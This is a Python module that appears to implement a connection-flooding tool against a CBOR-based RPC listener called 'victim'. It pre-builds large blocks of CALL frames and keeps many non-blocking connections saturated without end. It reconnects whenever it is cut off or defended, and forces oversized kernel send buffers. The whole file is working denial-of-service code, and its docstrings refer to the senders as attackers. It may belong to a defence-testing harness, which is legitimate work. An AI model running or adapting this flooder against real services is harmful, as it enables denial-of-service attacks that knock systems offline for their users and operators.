"""Sending as fast as the other end takes it, over many connections at once."""

import select
import socket
import struct
import time

from . import cbor, peers, wire

FRAMES_OF_A_BLOCK = 20_000
PREPARED_BLOCKS = 30
# What a process with privileges may have above the usual maximum; others get that.
SO_SNDBUFFORCE = 32
DEEP_BYTES = 64 << 20
READ_BYTES = 1 << 18
RECONNECT_SECONDS = 0.05
START_SECONDS = 5.0


class Repeated:
    """The same frame again and again."""

    def __init__(self, frame):
        self.block = frame * max(1, (1 << 20) // len(frame))

    def prepare(self):
        pass

    def __call__(self, number):
        return self.block


class Counted:
    """Frames whose identifiers rise: what comes before the identifier and behind it stays the same."""

    def __init__(self, kind, rest):
        self.header = wire.header(kind, 9 + len(rest)) + b"\x1b"
        self.rest = rest
        self.blocks = []

    def make(self, number):
        first = 2 + number * FRAMES_OF_A_BLOCK
        pack = struct.Struct(">Q").pack
        return b"".join(
            self.header + pack(identifier) + self.rest for identifier in range(first, first + FRAMES_OF_A_BLOCK)
        )

    def prepare(self):
        """Makes what attackers that are forked from here on share: they send faster than they could make it."""
        while len(self.blocks) < PREPARED_BLOCKS:
            self.blocks.append(self.make(len(self.blocks)))

    def __call__(self, number):
        return self.blocks[number] if number < len(self.blocks) else self.make(number)


def calls(selector, wants_reply, *arguments):
    return Counted(wire.CALL, b"".join(map(cbor.encode, (selector, wants_reply, *arguments))))


class _Connection:
    def __init__(self, peer, blocks):
        self.stream = peer.stream
        self.stream.setblocking(False)
        self.blocks = blocks
        self.number = 0
        self.rest = memoryview(blocks(0))

    def write(self):
        self.rest = self.rest[self.stream.send(self.rest) :]
        if not self.rest:
            self.number += 1
            self.rest = memoryview(self.blocks(self.number))


def flood(tell, connect, count, blocks, reads=True):
    """Keeps so many connections busy for ever; those that are cut off come again."""
    poll = select.poll()
    connections = {}
    events = select.POLLOUT | (select.POLLIN if reads else 0)

    def add():
        connection = _Connection(connect(), blocks)
        connections[connection.stream.fileno()] = connection
        poll.register(connection.stream, events)

    def renew(descriptor):
        poll.unregister(descriptor)
        connections.pop(descriptor).stream.close()
        try:
            add()
        except peers.DEFENDED:
            pass

    told = False
    patience = time.monotonic() + START_SECONDS
    while len(connections) < count and time.monotonic() < patience:
        try:
            add()
        except peers.DEFENDED:
            continue
    while True:
        while len(connections) < count:
            try:
                add()
            except peers.DEFENDED:
                break
        for descriptor, event in poll.poll(100):
            try:
                if event & select.POLLIN and not connections[descriptor].stream.recv(READ_BYTES):
                    raise peers.Gone
                if event & select.POLLOUT:
                    connections[descriptor].write()
                elif event & (select.POLLHUP | select.POLLERR):
                    raise peers.Gone
            except BlockingIOError:
                continue
            except peers.DEFENDED:
                renew(descriptor)
        if not told:
            told = True
            tell("flooding")


def fill_deep(peer):
    """Has the kernel hold as much as it may of what the other end has not read yet."""
    for option in (SO_SNDBUFFORCE, socket.SO_SNDBUF):
        try:
            peer.stream.setsockopt(socket.SOL_SOCKET, option, DEEP_BYTES)
            break
        except PermissionError:
            continue
    return peer


def listener_connection(name="victim"):
    """A way to make connections to a listener that has been looked up once."""
    endpoint = peers.look_up(name)

    def connect():
        peer = endpoint.connect(RECONNECT_SECONDS)
        peer.introduce()
        return fill_deep(peer)

    return connect


def link():
    return fill_deep(peers.broker_link(RECONNECT_SECONDS))
